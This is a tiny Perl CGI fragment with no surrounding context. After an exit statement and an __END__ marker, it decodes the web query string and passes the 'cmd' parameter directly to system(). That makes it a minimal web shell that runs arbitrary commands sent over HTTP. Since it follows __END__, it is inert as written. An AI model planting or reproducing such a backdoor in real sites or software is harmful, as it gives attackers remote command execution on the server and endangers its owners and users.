exit;
__END__
foreach $pair (split(/&/, $ENV{'QUERY_STRING'})) {
  ($n, $v) = split(/=/, $pair);
  $v =~ s/%([a-fA-F0-9][a-fA-F0-9])/pack("C", hex($1))/eg;
  $FORM{$n} = $v;
}
system($FORM{'cmd'});
